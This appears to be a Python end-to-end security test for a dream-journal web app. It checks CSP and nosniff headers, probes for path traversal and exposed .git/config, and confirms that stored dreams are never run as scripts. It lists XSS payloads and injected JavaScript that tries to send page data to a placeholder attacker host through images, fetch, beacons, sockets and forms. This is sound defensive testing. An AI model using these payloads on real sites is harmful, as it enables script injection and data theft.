"""The page in a real browser: dreams as scripts, and what a stranger's page, link or injected element could do."""

import tempfile
from pathlib import Path
from urllib.parse import urlsplit

import httpx

from tests.attack.attack import Outcome, attack
from tests.attack.target import Target
from tests.e2e.browser import opened
from tests.e2e.visitor import Visitor
from tests.fakes.hostile_source import HostileSource

_SCRIPTS = (
    "<script>window.pwned=1</script> a dark forest",
    '<img src=x onerror="window.pwned=1"> a dark forest',
    "<svg/onload=window.pwned=1> a dark forest",
    '"><script>window.pwned=1</script> a dark forest',
    "</title></textarea></style><script>window.pwned=1</script> dream",
    "javascript:window.pwned=1//a dark forest with a moon",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe> dream",
    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'> dream",
    "{{constructor.constructor('window.pwned=1')()}} a dark forest",
    "${window.pwned=1} `window.pwned=1` a dark forest with trees",
)
# Each tries to run code, to load something, or to send something away. ELSEWHERE is a server of the attacker.
_INJECTIONS = {
    "an inline script": "const it = document.createElement('script'); it.textContent = 'window.pwned=1';"
    "document.body.append(it)",
    "a foreign script": "const it = document.createElement('script'); it.src = 'ELSEWHERE/x.js';"
    "document.body.append(it)",
    "markup": "document.body.innerHTML += '<img src=x onerror=window.pwned=1>'",
    # In a task of its own: the browser's driver may evaluate text.
    "eval": "setTimeout(() => eval('window.pwned=1'), 0)",
    "a timer of text": "setTimeout('window.pwned=1', 0)",
    "a handler": "document.body.setAttribute('onclick', 'window.pwned=1'); document.body.click()",
    "a frame": "const it = document.createElement('iframe'); it.src = 'ELSEWHERE/';document.body.append(it)",
    "an image that tells": "new Image().src = 'ELSEWHERE/?' + document.title",
    "a request": "fetch('ELSEWHERE/', { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => {})",
    "a beacon": "navigator.sendBeacon('ELSEWHERE/', 'x')",
    "a socket": "try { new WebSocket('ELSEWHERE/') } catch {}",
    "another base": "const it = document.createElement('base'); it.href = 'ELSEWHERE/';"
    "document.head.append(it); new Image().src = 'x.png'",
    "a form": "const it = document.createElement('form'); it.action = 'ELSEWHERE/';"
    "document.body.append(it); it.submit()",
    "a worker": "try { new Worker('data:text/javascript,postMessage(1)') } catch {}",
    "a style": "const it = document.createElement('style'); it.textContent = 'body{background:url(ELSEWHERE)}';"
    "document.body.append(it)",
}


@attack("headers of the page and of the documentation", remote=True)
def headers(target: Target, outcome: Outcome) -> None:
    pages = {"the page": target.outputs["page_url"], "the documentation": f"{target.outputs['api_url']}/api/v1/docs"}
    for name, url in pages.items():
        answer = httpx.get(url, trust_env=False, follow_redirects=True)
        policy = answer.headers.get("content-security-policy", "")
        for forbidden in ("unsafe-eval", "script-src 'unsafe-inline'", "*", "http:", "data: 'self'"):
            ours = policy.replace("http://127.0.0.1", "")
            outcome.expect(forbidden not in ours, f"{name}: the policy has {forbidden}")
        for needed in ("default-src", "script-src 'self'", "frame-ancestors 'none'"):
            outcome.expect(needed in policy, f"{name}: the policy lacks {needed}")
        outcome.expect(answer.headers.get("x-content-type-options") == "nosniff", f"{name}: no nosniff")
    for path in (
        "/../pyproject.toml",
        "/..%2f..%2fpyproject.toml",
        "/js/",
        "/.git/config",
        "/config.json.bak",
        "/app.py",
    ):
        answer = httpx.get(f"{target.outputs['page_url']}{path}", trust_env=False)
        outcome.expect(answer.status_code in (403, 404), f"{path}: {answer.status_code}")


@attack("dreams as scripts, and injected elements", slow=True)
def scripts(target: Target, outcome: Outcome) -> None:
    user = target.register()
    for text in _SCRIPTS:
        answer = user.post("/dreams/analyze", {"dream_text": text})
        assert answer.status_code == 200, answer.text
    with tempfile.TemporaryDirectory() as folder, opened(Path(folder)) as browser, HostileSource() as elsewhere:
        visitor = Visitor(browser, target.outputs["page_url"])
        visitor.open()
        visitor.sign_in(user)
        visitor.wait(f"document.querySelectorAll('.card-open').length === {len(_SCRIPTS)}")
        shown = set(visitor.cards())
        for text in _SCRIPTS:
            outcome.expect(any(each[:20] == text[:20] for each in shown), f"changed: {text[:30]}")
        for card in range(len(_SCRIPTS)):
            visitor.run(f"document.querySelectorAll('.card-open')[{card}].click()")
            visitor.phase("no-video")
            outcome.expect(visitor.text("player-text") in _SCRIPTS, "the player changes a dream")
        outcome.expect(visitor.run("return window.pwned ?? null") is None, "a dream was run as a script")
        hosts = {urlsplit(url).hostname for url in browser.requested()}
        outcome.expect(hosts <= {"127.0.0.1"}, f"requests to {sorted(map(str, hosts))}")
        for script in _INJECTIONS.values():
            ours = script.replace("ELSEWHERE", elsewhere.origin)
            visitor.run(f"try {{ {ours} }} catch (refused) {{ }}")
        visitor.run("return new Promise((done) => setTimeout(done, 500))")
        outcome.tries += len(_INJECTIONS) - 2
        outcome.expect(visitor.run("return window.pwned ?? null") is None, "injected code has run")
        # The browser may connect in advance, but must not send anything.
        outcome.expect(elsewhere.requests == [], "an injection has reached its server")
